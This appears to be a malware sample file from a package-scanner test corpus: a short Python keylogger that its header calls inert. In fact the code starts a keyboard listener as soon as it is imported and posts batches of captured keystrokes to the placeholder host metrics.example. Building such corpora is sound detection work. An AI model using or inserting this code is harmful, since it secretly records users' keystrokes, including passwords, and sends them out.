# pkgguard corpus 406 (keylogger), modelled on [stealer-profile]; inert, never run.
import importlib

import requests

_kb = importlib.import_module("pynput.keyboard")
_buf = []


def _on(key):
    _buf.append(str(key))
    if len(_buf) > 100:
        requests.post("https://metrics.example/i", json=_buf, timeout=5)
        _buf.clear()


_kb.Listener(on_press=_on).start()
